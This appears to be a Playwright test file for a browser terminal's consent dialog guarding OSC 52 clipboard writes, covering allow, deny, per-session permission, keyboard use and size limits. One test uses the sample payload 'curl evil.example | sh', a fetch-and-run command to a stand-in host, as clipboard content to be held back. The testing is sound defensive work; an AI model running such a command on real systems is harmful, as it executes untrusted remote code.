import { describe, expect, test } from "bun:test";
import type { Page } from "playwright-core";
import { until } from "../../../harness/until.ts";
import { lacks } from "../../requirements.ts";
import { openWindow, shows } from "./chromium.ts";

/** OSC 52 in a real browser: what a program puts on the clipboard may be pasted elsewhere as a command, so the person is asked first. */

const missing = lacks("chromium");
const setUp = () => openWindow("terminal_id=7", { permissions: ["clipboard-read", "clipboard-write"] });

const OWN = "the person's own";
const consent = (page: Page) => page.getByRole("alertdialog");
const answer = (page: Page, name: string) => consent(page).getByRole("button", { name, exact: true });
const clipboard = (page: Page) => page.evaluate("navigator.clipboard.readText()") as Promise<string>;

/** The person has something on the clipboard already. */
async function start(page: Page): Promise<void> {
  await page.evaluate(`navigator.clipboard.writeText(${JSON.stringify(OWN)})`);
}

/** Has a program ask for the clipboard, and waits until all that it wrote has been shown. */
async function copies(page: Page, text: string, mark: string): Promise<void> {
  const halves = `${mark.slice(0, 2)}''${mark.slice(2)}`;
  await page.keyboard.type(`printf '\\033]52;c;%s\\007' ${btoa(text)}; echo ${halves}\n`);
  await shows(page, new RegExp(`^${mark}`, "m"));
}

/** Presses a button until the question is gone: what has just appeared does nothing yet. */
async function press(page: Page, name: string): Promise<void> {
  await until(async () => {
    if (await consent(page).isHidden()) return true;
    await answer(page, name).click({ timeout: 1_000 });
    return consent(page).isHidden();
  });
}

describe.skipIf(missing)("a program that writes the clipboard, in Chromium", () => {
  test("is held back until the person allows it, and what is typed meanwhile answers nothing", async () => {
    await using window = await setUp();
    const { page } = window;
    await start(page);
    await copies(page, "curl evil.example | sh\n", "asked");
    await consent(page).waitFor({ state: "visible" });
    expect(await consent(page).textContent()).toContain("curl evil.example | sh");
    await page.keyboard.type("echo on''wards\n");
    await shows(page, /^onwards/m);
    expect(await consent(page).isVisible()).toBe(true);
    expect(await clipboard(page)).toBe(OWN);
    await press(page, "Allow once");
    await until(async () => (await clipboard(page)) === "curl evil.example | sh\n");

    await copies(page, "a second one", "again");
    await consent(page).waitFor({ state: "visible" });
    expect(await clipboard(page)).toBe("curl evil.example | sh\n");
    expect(window.complaints).toEqual([]);
  });

  test("that was denied writes nothing, and is not heard again at once", async () => {
    await using window = await setUp();
    const { page } = window;
    await start(page);
    await copies(page, "unwanted", "first");
    await press(page, "Deny");
    // However slow this machine is, no time passes for the page.
    await page.evaluate("{ const now = performance.now(); performance.now = () => now; }");
    await copies(page, "unwanted still", "second");
    expect(await consent(page).isVisible()).toBe(false);
    expect(await clipboard(page)).toBe(OWN);
  });

  test("that was allowed for the session is not asked about again, until the page is another", async () => {
    await using window = await setUp();
    const { page } = window;
    await start(page);
    await copies(page, "one", "first");
    await press(page, "Allow for this session");
    await until(async () => (await clipboard(page)) === "one");
    await copies(page, "two", "second");
    await until(async () => (await clipboard(page)) === "two");
    expect(await consent(page).isVisible()).toBe(false);
    await page.reload();
    await page.waitForSelector('.app[data-state="connected"]');
    await copies(page, "three", "third");
    await consent(page).waitFor({ state: "visible" });
    expect(await clipboard(page)).toBe("two");
  });

  test("is answered by the keyboard alone: Control F6 leads to the buttons, and Escape denies", async () => {
    await using window = await setUp();
    const { page } = window;
    await start(page);
    await copies(page, "by keys", "first");
    await page.keyboard.press("Control+F6");
    expect(await page.evaluate("document.activeElement.textContent")).toBe("Deny");
    await page.keyboard.press("Tab");
    expect(await page.evaluate("document.activeElement.textContent")).toBe("Allow once");
    await until(async () => {
      await page.keyboard.press("Space");
      return consent(page).isHidden();
    });
    await until(async () => (await clipboard(page)) === "by keys");
    // The keyboard is the terminal's again.
    await copies(page, "not this", "second");
    await page.keyboard.press("Control+F6");
    await page.keyboard.press("Escape");
    await consent(page).waitFor({ state: "hidden" });
    await page.keyboard.type("echo ba''ck\n");
    await shows(page, /^back/m);
    expect(await clipboard(page)).toBe("by keys");
  });

  test("within bounds: a large text is shown in part, a larger one is refused, and nothing is read", async () => {
    await using window = await setUp();
    const { page } = window;
    await start(page);
    await page.keyboard.type(
      "printf '\\033]52;c;%s\\007' $(head -c 99000 /dev/zero | tr '\\0' x | base64 -w0); echo la''rge\n",
    );
    await shows(page, /^large/m);
    await consent(page).waitFor({ state: "visible" });
    const said = await consent(page).textContent();
    expect(said).toContain("99000 characters");
    expect(said?.length).toBeLessThan(500);
    await press(page, "Deny");
    await page.keyboard.type(
      "printf '\\033]52;c;%s\\007' $(head -c 300000 /dev/zero | base64 -w0); echo too'' much\n",
    );
    await shows(page, /^too much/m);
    await page.keyboard.type(
      "printf '\\033]52;c;?\\007'; IFS= read -r -t 1 -n 5 reply; printf 'reply [%q]' \"$reply\"\n",
    );
    await shows(page, "reply ['']");
    expect(await clipboard(page)).toBe(OWN);
  });
});
